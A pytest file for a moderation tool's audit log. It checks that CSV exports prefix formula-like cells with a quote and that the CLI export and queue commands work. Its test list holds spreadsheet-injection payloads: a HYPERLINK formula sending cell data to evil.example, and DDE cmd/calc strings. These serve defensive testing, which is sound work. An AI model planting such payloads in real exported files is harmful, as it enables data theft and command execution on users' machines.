"""The audit log leaves the system safely: CSV cells never start a formula (issue 11 point 11),
and `moderation audit export` / `moderation queue` give operators what the dashboard shows
(issue 10 point 15)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from moderation import review
from moderation.cli import main
from moderation.pipeline.ingest import ingest
from moderation.review import QueueFilter
from moderation.review.audit import AuditFilter, audit_csv
from moderation.review.csv_cells import safe_cell
from moderation.store import Store
from moderation.store.audit import record_event

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE_NAMES)
def test_formula_cells_are_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Fred", "", "a=b", "3 + 4", "é", "'quoted"])
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert safe_cell(value) == value


def test_audit_csv_neutralises_every_cell(store: Store) -> None:
    for name in HOSTILE_NAMES:
        record_event(
            store,
            actor=name,
            action="note",
            target_type="author",
            target_id=name,
            details={"note": name},
        )
    rows = list(csv.reader(io.StringIO(audit_csv(store, AuditFilter()))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "no rows exported"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    actors = {row[rows[0].index("actor")] for row in rows[1:]}
    assert actors == {"'" + name for name in HOSTILE_NAMES}


@pytest.fixture
def seeded(database_url: str, seeds: list[Path]) -> str:
    store = Store.open(database_url)
    ingest(seeds, store)
    items, _ = review.queue_page(
        store, QueueFilter(queue="all", sort="thread"), model_id=None, rule_set_version=None
    )
    review.decide(
        store,
        items[0].comment_id,
        "reject",
        moderator="mo",
        expected_version=items[0].version,
        clause_id="no-profanity",
        note="=1+1",
    )
    review.decide(
        store, items[1].comment_id, "approve", moderator="mo", expected_version=items[1].version
    )
    store.close()
    return database_url


def test_audit_export_csv_and_json(seeded: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--db", seeded, "audit", "export", "--csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["action"] for r in rows] == ["approve", "reject"]
    assert "'=1+1" in rows[1]["note"]
    assert main(["--db", seeded, "audit", "export", "--json"]) == 0
    entries = json.loads(capsys.readouterr().out)
    assert [e["action"] for e in entries] == ["approve", "reject"]
    assert entries[1]["details"]["note"] == "=1+1"  # JSON is data, not a spreadsheet
    assert entries[1]["details"]["clause"] == "no-profanity"


def test_queue_command_lists_what_the_dashboard_shows(
    seeded: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["--db", seeded, "queue", "rejected", "--json"]) == 0
    [row] = json.loads(capsys.readouterr().out)
    assert set(row) >= {
        "comment_id",
        "status",
        "article",
        "position",
        "author",
        "categories",
        "rule_ids",
        "severity",
    }
    assert row["status"] == "rejected" and row["position"] == 1
    assert main(["--db", seeded, "queue", "all"]) == 0
    out = capsys.readouterr().out
    assert "30 comments" in out
    assert main(["--db", seeded, "queue", "unflagged"]) == 0
    assert "28 comments" in capsys.readouterr().out
